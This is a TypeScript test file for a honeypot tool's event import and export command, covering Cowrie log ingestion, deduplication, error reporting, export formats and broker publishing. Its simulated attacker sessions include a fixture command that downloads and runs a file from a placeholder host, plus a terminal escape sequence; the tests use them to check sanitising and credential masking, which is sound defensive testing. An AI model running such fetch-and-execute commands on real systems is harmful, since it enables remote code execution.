/** `waterguard events` as a process: what comes in from other sensors, comes again, and goes out in each format. */
import assert from 'node:assert/strict';
import { type ChildProcessWithoutNullStreams, spawn } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import { readEventLine } from '../../src/api/event-line.ts';
import { openStore, type Store } from '../../src/store/open.ts';
import { sampleBoot } from '../fixtures/events.ts';
import { startBroker } from '../fixtures/hpfeeds-broker.ts';
import { startServer, type TestServer } from '../fixtures/server.ts';
import { copyStoreFolder } from '../fixtures/store-folder.ts';

const home = mkdtempSync(join(tmpdir(), 'waterguard-events-'));
const store = join(home, 'store');
let holder: Store;
before(async () => {
  await copyStoreFolder(store);
  // Held by this process, so that the others need not start a database each.
  holder = await openStore({ env: {}, data: store, command: 'test' });
});
after(async () => {
  await holder.close();
  rmSync(home, { recursive: true, force: true });
});

interface Run {
  readonly code: number | null;
  readonly stdout: string;
  readonly stderr: string;
}

function events(args: readonly string[], input: string | Buffer = ''): Promise<Run> {
  const child = start(args);
  child.stdin.end(input);
  return endOf(child);
}

function start(args: readonly string[]): ChildProcessWithoutNullStreams {
  const program = join(import.meta.dirname, '../../waterguard');
  const env = { PATH: process.env.PATH, HOME: home, XDG_CACHE_HOME: join(home, 'cache') };
  const child = spawn(program, ['events', ...args], { cwd: home, env, timeout: 120_000 });
  child.stdin.on('error', () => {});
  return child;
}

function endOf(child: ChildProcessWithoutNullStreams): Promise<Run> {
  const output = { stdout: '', stderr: '' };
  for (const name of ['stdout', 'stderr'] as const)
    child[name].setEncoding('utf8').on('data', (text: string) => {
      output[name] += text;
    });
  return new Promise((resolve) => child.once('close', (code) => resolve({ code, ...output })));
}

function put(name: string, lines: readonly string[]): string {
  const path = join(home, name);
  writeFileSync(path, lines.map((line) => `${line}\n`).join(''));
  return path;
}

const minute = 60_000;
const at = (minutesAgo: number): string => new Date(Date.now() - minutesAgo * minute).toISOString();

/** A visitor who guesses, looks around and is gone. */
function session(id: string, minutesAgo: number, sensor = 'pot-1'): string[] {
  const members = {
    session: id,
    src_ip: '198.51.100.7',
    sensor,
    protocol: 'ssh',
    timestamp: at(minutesAgo),
  };
  return [
    { eventid: 'session.connect', src_port: 4000, dst_ip: '192.0.2.1', dst_port: 22 },
    { eventid: 'client.version', version: 'SSH-2.0-Go' },
    { eventid: 'login.success', username: 'root', password: 'hunter-2' },
    { eventid: 'command.input', input: 'wget http://203.0.113.9/a\x1b[2J; sh a' },
    { eventid: 'virustotal.scanurl', url: 'http://203.0.113.9/a' },
    { eventid: 'session.closed', duration: 3 },
  ].map((one) => JSON.stringify({ ...members, ...one, eventid: `cowrie.${one.eventid}` }));
}

describe('importing', () => {
  const file = join(home, 'cowrie.json');
  before(() => void put('cowrie.json', [...session('aaaaaaaaaaaa', 60), ...session('bbbbbbbbbbbb', 50)]));

  it('takes a log of Cowrie, and the same one again adds nothing', async () => {
    const first = await events(['import', file, '--data', store]);
    assert.deepEqual(first, {
      code: 0,
      stdout: 'events: 10 new, 0 here before; lines of no visitor: 2\n',
      stderr: '',
    });
    const second = await events(['import', file, '--data', store]);
    assert.deepEqual(
      [second.code, second.stdout],
      [0, 'events: 0 new, 10 here before; lines of no visitor: 2\n'],
    );
  });

  it('takes what was added to a file since, and packed files, and standard input', async () => {
    const grown = [...readFileSync(file, 'utf8').trim().split('\n'), ...session('cccccccccccc', 40)];
    const plain = await events(['import', '-', '--data', store], `${grown.join('\n')}\n`);
    assert.match(plain.stdout, /^events: 5 new, 10 here before/);
    const packed = join(home, 'cowrie.json.gz');
    writeFileSync(packed, gzipSync(grown.join('\r\n')));
    assert.match(
      (await events(['import', packed, '--data', store])).stdout,
      /^events: 0 new, 15 here before/,
    );
  });

  it('takes lines of our own, whole and as they are', async () => {
    const { next } = sampleBoot('own');
    const mine = [
      next({ ts: at(30) }),
      next({ ts: at(29), type: 'docker.image.pull', norm: { images: ['alpine'] } }),
    ];
    const lines = mine.map((one) => JSON.stringify(one));
    const { code, stdout } = await events(['import', put('own.ndjson', lines), '--data', store]);
    assert.deepEqual([code, stdout], [0, 'events: 2 new, 0 here before\n']);
    const back = await events(['export', '--sensor', 'own', '--data', store, '--quiet']);
    assert.deepEqual(
      back.stdout
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line)),
      mine,
    );
  });

  it('tells of bad lines with their place, takes the others, and ends with 3', async () => {
    const lines = ['{"no":"event"}', '', ...session('dddddddddddd', 20), 'x\x1b[2J', 'y'.repeat(600_000)];
    const { code, stdout, stderr } = await events(['import', put('mixed.json', lines), '--data', store]);
    assert.equal(code, 3);
    assert.match(stdout, /^events: 5 new, 0 here before; lines of no visitor: 1; bad lines: 3\n$/);
    assert.match(stderr, /mixed\.json:1: neither an event of Cowrie nor of Waterguard\n/);
    assert.match(stderr, /mixed\.json:9: no JSON object\n/);
    assert.match(stderr, /mixed\.json:10: longer than 524288 bytes\n/);
    assert.doesNotMatch(stderr, /\x1b/);
  });

  it('ends with 2 where nothing could be read, and with 3 where one of the files could not', async () => {
    const bad = put('bad.json', ['nothing', 'of', 'it']);
    const none = await events(['import', bad, join(home, 'not-there'), '--data', store]);
    assert.equal(none.code, 2);
    assert.match(none.stderr, /not-there: ENOENT/);
    assert.match(none.stdout, /bad lines: 3; unreadable files: 1/);
    const some = await events(['import', file, home, '--data', store]);
    assert.equal(some.code, 3);
    assert.match(some.stderr, /EISDIR/);
    const broken = join(home, 'broken.gz');
    writeFileSync(broken, Buffer.concat([gzipSync(session('eeeeeeeeeeee', 10).join('\n')).subarray(0, 100)]));
    const cut = await events(['import', broken, '--data', store]);
    assert.equal(cut.code, 2);
    assert.match(cut.stderr, /broken\.gz: unexpected end of file/);
  });

  it('does not mind a file with nothing in it, and says what is wrong with options', async () => {
    assert.equal((await events(['import', put('empty', []), '--data', store])).code, 0);
    const wrong = await events(['import', file, '--format', 'kippo']);
    assert.equal(wrong.code, 2);
    assert.match(wrong.stderr, /Allowed choices are cowrie, waterguard/);
    assert.match((await events(['import', file, '--sensor', 'a b'])).stderr, /letters, digits/);
    assert.match((await events(['import', file, '--server', 'http://127.0.0.1:1'])).stderr, /needs a token/);
  });

  it('ends at a signal also while nothing comes, with what came until then', {
    timeout: 60_000,
  }, async () => {
    const child = start(['import', '-', '--data', store]);
    child.stdin.write(readFileSync(file));
    const ended = endOf(child);
    setTimeout(() => child.kill('SIGTERM'), 4000);
    const { code, stdout, stderr } = await ended;
    assert.equal(code, 3, stderr);
    assert.match(stdout, /^events: 0 new, 10 here before; /);
    assert.match(stderr, /interrupted; the same command goes on/);
  });

  it('lists what is older than a store places by time as of now, and says so', async () => {
    const old = session('ffffffffffff', 60 * 24 * 200, 'old');
    const { stdout, stderr } = await events(['import', put('old.json', old), '--data', store]);
    assert.match(stdout, /^events: 5 new/);
    assert.match(stderr, /older than a quarter of a year, .*: 5/);
  });
});

describe('importing through a server', () => {
  let server: TestServer;
  let url: string;
  before(async () => {
    server = await startServer({ empty: true });
    url = await server.listen();
    writeFileSync(join(home, 'token'), `${server.tokens.ingest}\n`);
    writeFileSync(join(home, 'other-token'), `${server.tokens.read}\n`);
  });
  after(() => server.close());

  it('delivers batches with a token, and the same ones again add nothing', async () => {
    const many = Array.from({ length: 120 }, (_, one) =>
      session(one.toString(16).padStart(12, '0'), 300 - one),
    ).flat();
    const file = put('many.json', many);
    const through = ['--server', url, '--token-file', join(home, 'token')];
    assert.match((await events(['import', file, ...through])).stdout, /^events: 600 new, 0 here before/);
    assert.match((await events(['import', file, ...through])).stdout, /^events: 0 new, 600 here before/);
    const { json } = await server.ask('GET', '/v1/events?type=ssh.auth&limit=200', {
      as: { role: 'analyst' },
    });
    assert.equal(json.items.length, 120);
  });

  it('says so where the token may not', async () => {
    const file = put('one.json', session('0123456789ab', 5));
    const { code, stderr } = await events([
      'import',
      file,
      '--server',
      url,
      '--token-file',
      join(home, 'other-token'),
    ]);
    assert.equal(code, 2);
    assert.match(stderr, /refuses the token \(403\)/);
  });
});

describe('exporting', () => {
  const cowrie = ['--sensor', 'pot-1', '--data', store, '--quiet'];
  const exported = async (...args: string[]): Promise<string> => {
    const { code, stdout, stderr } = await events(['export', ...cowrie, ...args]);
    assert.equal(code, 0, stderr);
    return stdout;
  };
  const jsonLines = (text: string) =>
    text
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));

  it('gives lines of our own, the oldest first, that can be taken in again', async () => {
    const text = await exported('--from', at(65));
    const lines = text.trim().split('\n');
    assert.equal(lines.length, 20);
    assert.ok(lines.every((line) => 'event' in readEventLine(line)));
    const times = lines.map((line) => JSON.parse(line).ts as string);
    assert.deepEqual(times, times.toSorted());
    const again = await events(['import', '-', '--data', store], text);
    assert.deepEqual([again.code, again.stdout], [0, 'events: 0 new, 20 here before\n']);
  });

  it('filters by time, type, source and session', async () => {
    const types = async (...args: string[]) => jsonLines(await exported(...args)).map((one) => one.type);
    assert.deepEqual(await types('--from', at(65), '--to', at(55), '--type', 'ssh.auth'), ['ssh.auth']);
    assert.equal((await types('--from', at(65), '--type', 'ssh')).length, 20);
    assert.equal(await exported('--source', '203.0.113.0/24'), '');
    assert.equal((await types('--source', '198.51.100.0/24', '--from', at(65))).length, 20);
    assert.equal(await exported('--session', '999999'), '');
    assert.ok((await types('--session', '1')).length > 0);
    assert.equal((await events(['export', '--source', 'somewhere', '--data', store])).code, 2);
  });

  it('gives CEF, OCSF, STIX and hpfeeds, a whole file of each', async () => {
    const cef = (await exported('--from', at(65), '--format', 'cef')).trim().split('\n');
    assert.equal(cef.length, 20);
    assert.ok(cef.every((line) => line.startsWith('CEF:0|Waterguard|Waterguard|')));
    const ocsf = jsonLines(await exported('--from', at(65), '--format', 'ocsf'));
    assert.deepEqual(new Set(ocsf.map((one) => one.class_uid)), new Set([4007, 3002, 1007]));
    const feed = jsonLines(await exported('--from', at(65), '--format', 'hpfeeds'));
    assert.equal(feed.filter((one) => one.channel === 'waterguard.events').length, 20);
    const sessions = feed.filter((one) => one.channel === 'cowrie.sessions');
    assert.deepEqual(
      sessions.map((one) => one.payload.session),
      ['aaaaaaaaaaaa', 'bbbbbbbbbbbb', 'cccccccccccc', 'dddddddddddd'],
    );
    assert.deepEqual(sessions[0].payload.loggedin, ['root', 'hunter-2']);
    const bundle = JSON.parse(await exported('--from', at(65), '--format', 'stix'));
    assert.equal(bundle.objects.filter((one: { type: string }) => one.type === 'observed-data').length, 20);
    assert.equal(new Set(bundle.objects.map((one: { id: string }) => one.id)).size, bundle.objects.length);
    assert.deepEqual(Object.keys(JSON.parse(await exported('--type', 'none', '--format', 'stix'))), [
      'type',
      'id',
    ]);
  });

  it('writes no control character, whatever visitors typed, and no credential where it is masked', async () => {
    for (const format of ['ndjson', 'cef', 'ocsf', 'stix', 'hpfeeds']) {
      const text = await exported('--from', at(65), '--format', format, '--mask');
      assert.doesNotMatch(text, /[\x00-\x09\x0b-\x1f\x7f-\x9f]/, format);
      assert.doesNotMatch(text, /hunter-2/, format);
    }
    assert.match(await exported('--from', at(65)), /hunter-2/);
  });

  it('writes a file that is whole or as it was', async () => {
    const file = join(home, 'out.ndjson');
    writeFileSync(file, 'before');
    assert.equal(await exported('--from', at(65), '--output', file), '');
    assert.equal(readFileSync(file, 'utf8').trim().split('\n').length, 20);
    const refused = await events(['export', '--output', join(home, 'no', 'folder'), '--data', store]);
    assert.equal(refused.code, 2);
    assert.deepEqual(
      readdirSync(home).filter((name) => name.startsWith('.waterguard-')),
      [],
    );
  });

  it('publishes to a broker, and says so where it refuses', async () => {
    const broker = await startBroker();
    const secret = join(home, 'secret');
    writeFileSync(secret, 'the secret\n');
    const place = ['--broker', `127.0.0.1:${broker.port}`, '--ident', 'ident', '--secret-file', secret];
    assert.equal(await exported('--from', at(65), '--format', 'hpfeeds', ...place), '');
    const published = broker.heard.filter((one) => one.opCode === 3).map((one) => one.content.toString());
    assert.equal(
      published.filter((one) => one.startsWith('\x05ident\x11waterguard.events{"v":1')).length,
      20,
    );
    assert.equal(
      published.filter((one) => one.startsWith('\x05ident\x0fcowrie.sessions{"session"')).length,
      4,
    );
    writeFileSync(secret, 'another');
    const { code, stderr } = await events(['export', ...cowrie, '--format', 'hpfeeds', ...place]);
    broker.close();
    assert.equal(code, 2);
    assert.match(stderr, /the broker says: Authentication failed/);
  });

  it('says what a broker needs before it opens anything', async () => {
    for (const [args, message] of [
      [['--broker', '127.0.0.1:1'], /--broker goes with --format hpfeeds/],
      [['--broker', '127.0.0.1:1', '--format', 'hpfeeds'], /needs --ident NAME and --secret-file FILE/],
      [['--broker', 'nowhere', '--format', 'hpfeeds'], /give an address and a port/],
    ] as const) {
      const { code, stderr } = await events(['export', ...args, '--data', join(home, 'never')]);
      assert.equal(code, 2);
      assert.match(stderr, message);
    }
    assert.equal(readdirSync(home).includes('never'), false);
  });

  it('of a store that is not there is a mistake, and makes none', async () => {
    const never = join(home, 'never');
    for (const format of ['ndjson', 'stix']) {
      const { code, stdout, stderr } = await events(['export', '--format', format, '--data', never]);
      assert.deepEqual([code, stdout], [2, '']);
      assert.match(stderr, /There is no store at .*never: name one with --data DIR/);
    }
    assert.equal(readdirSync(home).includes('never'), false);
  });
});
